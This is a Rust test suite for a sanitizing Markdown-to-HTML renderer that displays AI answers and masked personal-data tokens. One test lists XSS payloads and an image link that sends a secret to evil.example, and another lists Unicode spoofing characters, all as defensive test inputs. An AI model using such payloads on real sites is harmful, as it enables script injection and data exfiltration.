use boundary::{Kind, Layer, Piece};
use proptest::prelude::*;

use super::{chips, legible, markdown, plain};

fn said(text: &str) -> Piece {
    Piece::Plain(text.to_owned())
}

fn value(value: &str) -> Piece {
    Piece::Restored {
        token: "{NAME_1}".to_owned(),
        kind: Kind::Name,
        layer: Layer::Field,
        value: value.to_owned(),
    }
}

fn html(text: &str) -> String {
    markdown(&[said(text)]).into_string()
}

#[test]
fn the_subset_is_rendered() {
    let answer = "## Two accounts\n\nYou have **two**, *both* open:\n\n1. `GenTech`\n2. Acme\n   - north\n   - south\n\n> quoted\n\n---\n```json\n{\"a\": \"*b*\"}\n```";
    insta::assert_snapshot!(html(answer), @r#"<p class="heading"><strong>Two accounts</strong></p><p>You have <strong>two</strong>, <em>both</em> open:</p><ol><li><code>GenTech</code></li><li>Acme<ul><li>north</li><li>south</li></ul></li></ol><blockquote><p>quoted</p></blockquote><hr><pre tabindex="0"><code>{&quot;a&quot;: &quot;*b*&quot;}</code></pre>"#);
}

#[test]
fn a_table_has_heads_and_numbers_at_the_right() {
    let answer = "Here:\n| Name | Amount |\n|:--|--:|\n| A \\| B | 1,200.00 |\n| C | none | too many |\nafter";
    insta::assert_snapshot!(html(answer), @r#"<p>Here:</p><div class="wide" tabindex="0" role="group" aria-label="Table"><table><thead><tr><th scope="col">Name</th><th scope="col">Amount</th></tr></thead><tbody><tr><td>A | B</td><td class="number">1,200.00</td></tr><tr><td>C</td><td>none</td></tr></tbody></table></div><p>after</p>"#);
}

#[test]
fn a_value_is_an_atom() {
    let pieces = [said("**"), value("<b>*x*\n# y</b> | z"), said("** is here")];
    insta::assert_snapshot!(markdown(&pieces).into_string(), @r#"
    <p><strong><span class="restored" tabindex="0">&lt;b&gt;*x*
    # y&lt;/b&gt; | z<span class="tip">hidden from the model: NAME, by the field it stands in</span></span></strong> is here</p>
    "#);
    let row = [said("|a|b|\n|-|-|\n|"), value("1 | 2"), said("|3|")];
    assert_eq!(markdown(&row).into_string().matches("<td").count(), 2);
}

#[test]
fn nothing_is_loaded_linked_or_run() {
    for hostile in [
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>",
        "![x](https://evil.example/?q=secret)",
        "[click](javascript:alert(1))",
        "https://evil.example/?q=secret",
        "<https://evil.example>",
        "`<svg onload=alert(1)>`",
        "| <iframe src=//evil.example> |\n|-|\n| <a href=x> |",
        "```\n</code></pre><script>\n```",
        "\"onmouseover=\"alert(1)",
        "&lt;script&gt;",
    ] {
        let html = html(hostile);
        for tag in ["<script", "<img", "<a", "<svg", "<iframe", "=\"//", "=\"http"] {
            assert!(!html.contains(tag), "{hostile} became {html}");
        }
    }
    // An entity is read once and written as one again, never as a tag.
    assert_eq!(html("&lt;script&gt; &amp;lt;b"), "<p>&lt;script&gt; &amp;lt;b</p>");
    assert_eq!(html("`&lt;b`"), "<p><code>&amp;lt;b</code></p>");
    assert!(
        html("[a](https://b.example)").contains("[a](https://b.example)"),
        "an address stays in sight"
    );
}

#[test]
fn marks_that_are_none_stay() {
    for (text, expected) in [
        ("snake_case_name", "<p>snake_case_name</p>"),
        ("2 * 3 * 4", "<p>2 * 3 * 4</p>"),
        ("\\*not\\*", "<p>*not*</p>"),
        ("**open", "<p>**open</p>"),
        ("#hash", "<p>#hash</p>"),
        ("1.5 million", "<p>1.5 million</p>"),
        ("-5 degrees", "<p>-5 degrees</p>"),
        ("a | b", "<p>a | b</p>"),
    ] {
        assert_eq!(html(text), expected);
    }
    assert_eq!(html("3. third"), "<ol start=\"3\"><li>third</li></ol>");
}

#[test]
fn what_hides_or_reorders_is_made_visible() {
    assert_eq!(legible("invoice\u{202e}fdp.exe"), "invoice\u{fffd}fdp.exe");
    assert_eq!(legible("a\u{200b}b\u{e0041}c\0d\r"), "a\u{fffd}b\u{fffd}c\u{fffd}d\u{fffd}");
    assert_eq!(legible("Zoë 王\t\n👩\u{200d}🚀"), "Zoë 王\t\n👩\u{200d}🚀");
    // Joiners and selectors have their place, and beside plain letters they only hide.
    for fine in ["می\u{200c}خواهم", "❤\u{fe0f} 1\u{fe0f}\u{20e3}"] {
        assert_eq!(legible(fine), fine);
    }
    for hidden in [
        "ben@exam\u{200c}ple.com",
        "a\u{200d}b",
        "a\u{fe0f}",
        "\u{200d}",
        "a\u{34f}b",
        "a\u{3164}b",
        "a\u{2800}b",
        "a\u{115f}b",
        "a\u{ffa0}b",
        "a\u{180e}b",
    ] {
        assert!(legible(hidden).contains('\u{fffd}'), "{hidden:?}");
    }
    let shown = plain(&[value("\u{2066}x")]).into_string();
    assert!(shown.contains('\u{fffd}') && !shown.contains('\u{2066}'));
}

#[test]
fn a_restored_value_says_what_the_model_did_not_see() {
    insta::assert_snapshot!(plain(&[said("Call "), value("Ada <Lovelace>"), said(" now")]).into_string(), @r#"Call <span class="restored" tabindex="0">Ada &lt;Lovelace&gt;<span class="tip">hidden from the model: NAME, by the field it stands in</span></span> now"#);
}

#[test]
fn tokens_are_chips_and_what_only_looks_so_is_not() {
    let text = "{EMAIL_3} {!EMAIL_3} {EMAIL_} {email_3} {NOTHING_3} {{DATE_OF_BIRTH_12}} {EMAIL_3";
    insta::assert_snapshot!(chips(text, &[]).into_string(), @r#"<span class="chip">{EMAIL_3}</span> {!EMAIL_3} {EMAIL_} {email_3} {NOTHING_3} {<span class="chip">{DATE_OF_BIRTH_12}</span>} {EMAIL_3"#);
}

#[test]
fn a_hostile_text_is_rendered_in_time() {
    let start = std::time::Instant::now();
    for part in [
        "*",
        "_",
        "`",
        "**",
        "***a",
        "**a",
        "`a``",
        "*a_",
        "\\",
        "_a*b",
        "|",
        "> ",
        "- ",
        "1. ",
        "|a|\n|-|\n",
    ] {
        html(&part.repeat(60_000 / part.len()));
        html(&format!("{part}\n").repeat(6_000));
    }
    let braces = "{".repeat(500_000);
    assert_eq!(chips(&braces, &[]).into_string(), braces);
    assert!(start.elapsed().as_secs() < 60, "{:?}", start.elapsed());
}

/// Every tag and attribute that an answer may have.
fn is_tame(html: &str) -> bool {
    let allowed = [
        "p",
        "p class=\"heading\"",
        "strong",
        "em",
        "code",
        "pre tabindex=\"0\"",
        "ul",
        "ol",
        "li",
        "blockquote",
        "hr",
        "br",
        "table",
        "thead",
        "tbody",
        "tr",
        "th scope=\"col\"",
        "td",
        "td class=\"number\"",
        "div class=\"wide\" tabindex=\"0\" role=\"group\" aria-label=\"Table\"",
        "span class=\"restored\" tabindex=\"0\"",
        "span class=\"tip\"",
    ];
    html.split('<').skip(1).all(|part| {
        let tag = part.split('>').next().unwrap_or_default();
        let name = tag.strip_prefix('/').unwrap_or(tag);
        allowed.contains(&name)
            || allowed.iter().any(|it| it.starts_with(&format!("{name} ")))
            || name.strip_prefix("ol start=\"").is_some_and(|rest| {
                rest.trim_end_matches('"').bytes().all(|it| it.is_ascii_digit())
            })
    })
}

fn pieces() -> impl Strategy<Value = Vec<Piece>> {
    let syntax = "([-*_`~#>|\\\\ \n1.)(\\[\\]!<&\"'{}/a-c]|\\*\\*|```|\\| |- |\n\n|<script>|--\\||\u{202e}){0,60}";
    let piece = prop_oneof![
        4 => syntax.prop_map(Piece::Plain),
        1 => "[-*_|`#<>&\n a-c]{1,12}".prop_map(|text| value(&text)),
    ];
    proptest::collection::vec(piece, 0..6)
}

proptest! {
    #[test]
    fn any_answer_is_tame_and_balanced(pieces in pieces()) {
        let html = markdown(&pieces).into_string();
        prop_assert!(is_tame(&html), "{}", html);
        for tag in ["p", "strong", "em", "code", "pre", "ul", "ol", "li", "blockquote", "table", "td", "span", "div"] {
            let opened = html.matches(&format!("<{tag}>")).count() + html.matches(&format!("<{tag} ")).count();
            prop_assert_eq!(opened, html.matches(&format!("</{tag}>")).count(), "{} in {}", tag, &html);
        }
    }

    #[test]
    fn no_value_and_no_letter_is_lost(pieces in pieces()) {
        let html = markdown(&pieces).into_string();
        let values = pieces.iter().filter(|piece| matches!(piece, Piece::Restored { .. })).count();
        let shown = html.matches("class=\"restored\"").count();
        // A cell beyond the head of its table is not shown, and a fence keeps its first line.
        if !html.contains("<table") && !html.contains("<pre") {
            prop_assert_eq!(values, shown, "{}", &html);
        }
    }

    #[test]
    fn every_character_of_masked_text_is_shown(text in "([{}A-Z_0-9!<& ]|\\{EMAIL_3\\}){0,40}") {
        let html = chips(&text, &[]).into_string();
        let back = html.replace("<span class=\"chip\">", "").replace("</span>", "");
        let back = back.replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&amp;", "&");
        prop_assert_eq!(back, text);
    }
}

#[test]
fn a_token_says_which_layer_found_its_value() {
    let covered = [boundary::Coverage {
        token: "{NAME_3}".to_owned(),
        kind: Kind::Name,
        layer: Layer::Known,
    }];
    let html = chips("{NAME_3} and {NAME_4}", &covered).into_string();
    assert!(
        html.contains(
            "{NAME_3}<span class=\"tip\">hidden from the model: NAME, by a value the CRM knows"
        ),
        "{html}"
    );
    assert!(html.ends_with("<span class=\"chip\">{NAME_4}</span>"), "{html}");
}
